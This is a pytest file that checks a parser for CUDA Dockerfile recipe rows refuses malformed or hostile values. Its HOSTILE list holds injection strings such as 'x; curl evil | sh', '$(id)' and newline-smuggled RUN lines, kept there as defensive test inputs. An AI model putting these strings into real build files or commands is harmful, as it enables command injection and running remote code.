"""The [[recipe]] rows (envman/matrix/recipes.py): every value that reaches a RUN line, an ENV or a
LABEL of a rebuilt base's Dockerfile must have its shape, and a row with one wrong value is refused
whole."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

from envman.errors import MatrixError
from envman.matrix.load import parse_file
from envman.matrix.recipes import ENV_REFERENCES, RECIPE_PATTERNS, parse_recipes


GOOD = '''schema = 1
kind = "recipes"
[[recipe]]
tag = "10.0-base-ubuntu18.04"
from = "ubuntu:18.04"
platform = "linux/amd64"
path = "dist/end-of-life/10.0/ubuntu18/base/Dockerfile"
commit = "60a1c892e6b996382e182b4654e0a3f31aeedbee"
source = ["test"]
status = "confirmed"
repositories = ["https://developer.download.nvidia.com/compute/cuda/repos/ubuntu1804/x86_64"]
setup_packages = ["gnupg2", "curl", "ca-certificates"]
key_url = "https://developer.download.nvidia.com/compute/cuda/repos/ubuntu1804/x86_64/3bf863cc.pub"
key_fingerprint = "EB693B3035CD5710E231E123A4B469963BF863CC"
env = [["CUDA_VERSION", "10.0.130"], ["PATH", "/usr/local/cuda/bin:${PATH}"]]
packages = ["cuda-cudart-10-0=10.0.130-1", "cuda-compat-10-0"]
downloads = [{ url = "https://example.invalid/x/libnccl2_2.6.4-1+cuda10.0_amd64.deb", sha256 = "f92759e2ab0e36a1c9887f080f7283a774a7c971e352203db4d94d99c44f1028" }]
symlinks = [["cuda-10.0", "/usr/local/cuda"]]
ld_so_conf = ["/usr/local/nvidia/lib"]
'''


def _load(tmp_path: Path, text: str):
    p = tmp_path / "r.toml"
    p.write_text(text)
    return parse_file(p)


def test_a_well_formed_recipe_loads(tmp_path):
    kind, (r,) = _load(tmp_path, GOOD)
    assert kind == "recipes" and r.parent is None and r.downloads[0].file == "libnccl2_2.6.4-1+cuda10.0_amd64.deb"


HOSTILE = [
    ('packages = ["cuda-cudart-10-0=10.0.130-1", "cuda-compat-10-0"]', 'packages = ["x; curl evil | sh"]'),
    ('packages = ["cuda-cudart-10-0=10.0.130-1", "cuda-compat-10-0"]', 'packages = ["$(id)"]'),
    ('packages = ["cuda-cudart-10-0=10.0.130-1", "cuda-compat-10-0"]', 'packages = ["-o=APT::x"]'),
    ('setup_packages = ["gnupg2", "curl", "ca-certificates"]', 'setup_packages = ["curl\\nRUN x"]'),
    ('repositories = ["https://developer.download.nvidia.com/compute/cuda/repos/ubuntu1804/x86_64"]',
     'repositories = ["https://x.invalid/a b"]'),
    ('repositories = ["https://developer.download.nvidia.com/compute/cuda/repos/ubuntu1804/x86_64"]',
     'repositories = ["ftp://x.invalid/a"]'),
    ('repositories = ["https://developer.download.nvidia.com/compute/cuda/repos/ubuntu1804/x86_64"]',
     "repositories = [\"https://x.invalid/a' /etc\"]"),
    ('key_fingerprint = "EB693B3035CD5710E231E123A4B469963BF863CC"', 'key_fingerprint = "eb693b3035cd5710e231e123a4b469963bf863cc"'),
    ('key_fingerprint = "EB693B3035CD5710E231E123A4B469963BF863CC"', 'key_fingerprint = "EB693B30"'),
    ('["CUDA_VERSION", "10.0.130"]', '["CUDA_VERSION", "$(id)"]'),
    ('["CUDA_VERSION", "10.0.130"]', '["CUDA_VERSION", "${HOME}"]'),
    ('["CUDA_VERSION", "10.0.130"]', '["CUDA_VERSION", "a\\nRUN id"]'),
    ('["CUDA_VERSION", "10.0.130"]', '["CUDA VERSION", "1"]'),
    ('sha256 = "f92759e2ab0e36a1c9887f080f7283a774a7c971e352203db4d94d99c44f1028"', 'sha256 = "f92759e2"'),
    ('sha256 = "f92759e2ab0e36a1c9887f080f7283a774a7c971e352203db4d94d99c44f1028"', ''),
    ('libnccl2_2.6.4-1+cuda10.0_amd64.deb', 'libnccl2.sh'),
    ('symlinks = [["cuda-10.0", "/usr/local/cuda"]]', 'symlinks = [["cuda-10.0", "relative/link"]]'),
    ('ld_so_conf = ["/usr/local/nvidia/lib"]', 'ld_so_conf = ["/usr/local/nvidia/lib; id"]'),
    ('from = "ubuntu:18.04"', 'from = "ubuntu:18.04 AS x"'),
    ('from = "ubuntu:18.04"', 'parent = "10.0-runtime-ubuntu18.04"\nfrom = "ubuntu:18.04"'),
    ('from = "ubuntu:18.04"', ''),
    ('tag = "10.0-base-ubuntu18.04"', 'tag = "10.0-base ubuntu18.04"'),
    ('commit = "60a1c892e6b996382e182b4654e0a3f31aeedbee"', 'commit = "HEAD"'),
    ('key_url = "https://developer.download.nvidia.com/compute/cuda/repos/ubuntu1804/x86_64/3bf863cc.pub"', ''),
    ('status = "confirmed"', 'status = "confirmed"\nshell = "x"'),
]


@pytest.mark.parametrize("old, new", HOSTILE)
def test_a_recipe_value_of_the_wrong_shape_is_refused_whole(tmp_path, old, new):
    assert old in GOOD
    with pytest.raises(MatrixError) as e:
        _load(tmp_path, GOOD.replace(old, new))
    assert "recipe[0]" in e.value.what or "recipe" in str(e.value)


def _doc(**changes):
    if sys.version_info >= (3, 11):
        import tomllib
    else:  # pragma: no cover
        import tomli as tomllib

    doc = tomllib.loads(GOOD)
    doc["recipe"][0].update(changes)
    return doc


@pytest.mark.parametrize("kind, at_limit, past_limit", [
    ("text", "x" * 300, "x" * 301),
    ("env_text", "x" * 4000, "x" * 4001),
    ("env_key", "A" * 128, "A" * 129),
    ("label_key", "a" * 128, "a" * 129),
    ("sha256", "0" * 64, "0" * 65),
    ("fingerprint", "A" * 40, "A" * 41),
])
def test_each_recipe_pattern_takes_a_value_at_its_length_limit_and_refuses_one_past_it(kind, at_limit, past_limit):
    import re

    pattern = re.compile(RECIPE_PATTERNS[kind][0])
    assert pattern.fullmatch(at_limit) and not pattern.fullmatch(past_limit)


@pytest.mark.parametrize("value, ok", [
    ("${PATH}:/usr/local/cuda/bin", True),
    ("/x:${LD_LIBRARY_PATH}", True),
    ("", True),  # an empty value is a value
    ("${HOME}/bin", False),  # only the parent image's PATH and LD_LIBRARY_PATH
    ("$PATH", False),  # the unbraced form is not one of them
    ("a\\nb", False),  # a backslash could continue the line
    ("x\u00e9", False),  # printable ASCII only
])
def test_an_env_value_may_refer_to_the_parent_images_paths_only(value, ok):
    assert set(ENV_REFERENCES) == {"PATH", "LD_LIBRARY_PATH"}
    doc = _doc(env=[["CUDA_VERSION", value]])
    if ok:
        (recipe,) = parse_recipes(doc, "r.toml")
        assert recipe.env == (("CUDA_VERSION", value),)
    else:
        with pytest.raises(MatrixError) as e:
            parse_recipes(doc, "r.toml")
        assert "recipe[0].env" in e.value.what and e.value.where == "r.toml"


@pytest.mark.parametrize("download", [
    {"url": "https://example.invalid/x/a.deb"},  # no sha256
    {"url": "https://example.invalid/x/a.deb", "sha256": "0" * 64, "extra": "x"},  # a key too many
    ["https://example.invalid/x/a.deb", "0" * 64],  # not a table
    {"url": "https://example.invalid/x/a.sh", "sha256": "0" * 64},  # not a .deb
])
def test_a_download_is_a_deb_url_and_its_sha256_and_nothing_else(download):
    with pytest.raises(MatrixError, match=r"recipe\[0\]\.downloads"):
        parse_recipes(_doc(downloads=[download]), "r.toml")


def test_a_recipe_from_the_plain_os_image_needs_its_repositories_and_key():
    doc = _doc()
    del doc["recipe"][0]["key_url"]
    with pytest.raises(MatrixError, match=r"recipe\[0\]\.repositories"):
        parse_recipes(doc, "r.toml")
    parent = _doc(parent="10.0-runtime-ubuntu18.04")
    del parent["recipe"][0]["from"]
    (recipe,) = parse_recipes(parent, "r.toml")  # one on a parent takes its repositories from it
    assert recipe.parent == "10.0-runtime-ubuntu18.04" and recipe.from_image is None
